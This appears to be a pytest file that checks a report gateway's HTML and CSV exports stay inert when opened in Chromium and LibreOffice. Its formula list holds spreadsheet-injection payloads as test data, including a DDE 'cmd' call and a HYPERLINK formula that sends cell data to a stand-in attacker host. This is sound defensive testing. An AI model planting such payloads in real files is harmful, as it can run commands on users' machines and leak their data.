"""Exports as other programs open them: Chromium the page, LibreOffice the table."""

import re
import shutil
import subprocess
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path

import pypdfium2
import pytest
from playwright.async_api import Browser, async_playwright

from roundtable_gateway.exports.findings_csv import render as render_csv
from roundtable_gateway.exports.html.page import render as render_html
from services.gateway.tests.support.log_samples import FINDING
from services.gateway.tests.support.reports import (
    HOSTILE,
    hostile_everywhere,
    whole_run,
)
from services.gateway.tests.support.samples import DOCUMENT_TEXT

_CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")
_LIBREOFFICE = shutil.which("soffice")
_SECONDS = 90
_FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "  =1+1", '"=1+1'),
    *("\uff1d1+1", "\ufeff=1+1", "\u200b=1+1", "=cmd|' /C calc'!A0"),
    '=HYPERLINK("https://evil.example?x="&A1,"open")',
]
_DOM = """
[...document.querySelectorAll("*")].map(({localName, attributes, namespaceURI}) =>
  [namespaceURI, localName, ...[...attributes].map(({name, value}) => [name, value])])
"""


@pytest.fixture
async def browser() -> AsyncIterator[Browser]:
    """Return a fresh Chromium."""
    if _CHROMIUM is None:
        pytest.skip("no chromium on the PATH; apt-get install chromium")
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(
            executable_path=_CHROMIUM, args=["--no-sandbox", "--disable-gpu"]
        )
        yield browser
        await browser.close()


async def test_hostile_page_does_nothing(browser: Browser, tmp_path: Path) -> None:
    """No element, no attribute, no request and no dialog comes of what was written."""
    page = await browser.new_page()
    happened: list[str] = []
    page.on("request", lambda request: happened.append(request.url))
    page.on("dialog", lambda dialog: happened.append(dialog.message))
    page.on("console", lambda message: happened.append(message.text))
    page.on("pageerror", lambda error: happened.append(str(error)))
    file = tmp_path / "report.html"
    shapes = []

    for written in ("plain", "\n".join(HOSTILE)):
        file.write_text(render_html(*hostile_everywhere(written)), encoding="utf-8")
        await page.goto(file.as_uri())
        shapes.append(await page.evaluate(_DOM))

    plain, hostile = shapes
    assert hostile == plain
    assert len(hostile) > 50
    assert not {"script", "img", "iframe", "link", "base"} & {e[1] for e in hostile}
    assert happened == [file.as_uri()] * 2


async def test_page_is_light_by_day_and_dark_by_night(
    browser: Browser, tmp_path: Path
) -> None:
    """As the reader's system has it; the policy lets its own style through."""
    file = tmp_path / "report.html"
    file.write_text(render_html(whole_run(), DOCUMENT_TEXT), encoding="utf-8")
    colours = []

    for scheme in ("light", "dark"):
        page = await browser.new_page(color_scheme=scheme)
        await page.goto(file.as_uri())
        colours.append(
            await page.evaluate("getComputedStyle(document.body).backgroundColor")
        )

    assert colours == ["rgb(255, 254, 251)", "rgb(28, 30, 34)"]


async def test_page_prints_well(browser: Browser, tmp_path: Path) -> None:
    """On white even at night, the places spelled out, the rehearsal on each sheet."""
    file = tmp_path / "report.html"
    file.write_text(render_html(whole_run(), DOCUMENT_TEXT), encoding="utf-8")
    page = await browser.new_page(color_scheme="dark")
    await page.goto(file.as_uri())

    printed = await page.pdf(format="A4")

    with pypdfium2.PdfDocument(printed) as pdf:
        sheets = [sheet.get_textpage().get_text_bounded() for sheet in pdf]
        corners = [sheet.render().to_pil().getpixel((2, 2)) for sheet in pdf]
    assert len(sheets) >= 2
    assert set(corners) == {(255, 255, 255)}
    for number, sheet in enumerate(sheets, 1):
        assert "Rehearsal: rule-based checks, not AI" in sheet
        assert f"{number} of {len(sheets)}" in sheet
    assert "paragraph P1" in "".join(sheets)
    assert "The document" in sheets[-1]
    assert "The document" not in "".join(sheets[:-1])


@pytest.mark.timeout(2 * _SECONDS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_spreadsheet_evaluates_nothing(tmp_path: Path, delimiter: str) -> None:
    """Not in LibreOffice, whatever delimiter its user chooses for the file."""
    if _LIBREOFFICE is None:
        pytest.skip("no soffice on the PATH; apt-get install libreoffice-calc")
    written = [
        *_FORMULAS,
        *(f'x"{delimiter}{each}{delimiter}"' for each in _FORMULAS),
    ]
    findings = tuple(replace(FINDING, title=each, fix=each) for each in written)
    table = render_csv(replace(whole_run(), findings=findings))
    (tmp_path / "safe.csv").write_bytes(table.encode())
    (tmp_path / "control.csv").write_text(f'a{delimiter}"=1+1"\n', encoding="utf-8")

    subprocess.run(  # noqa: S603 - our own arguments
        [
            *(_LIBREOFFICE, "--headless", "--convert-to", "fods"),
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            f"--infilter=CSV:{ord(delimiter)},34,76,1",
            *("--outdir", str(tmp_path), "safe.csv", "control.csv"),
        ],
        cwd=tmp_path,
        check=True,
        capture_output=True,
        timeout=_SECONDS,
    )

    safe, control = (
        (tmp_path / f"{name}.fods").read_text(encoding="utf-8")
        for name in ("safe", "control")
    )
    assert re.findall('table:formula="([^"]*)"', control) == ["of:=1+1"]
    assert re.findall('table:formula="([^"]*)"', safe) == []
    assert "'=1+1" in safe.replace("&apos;", "'")
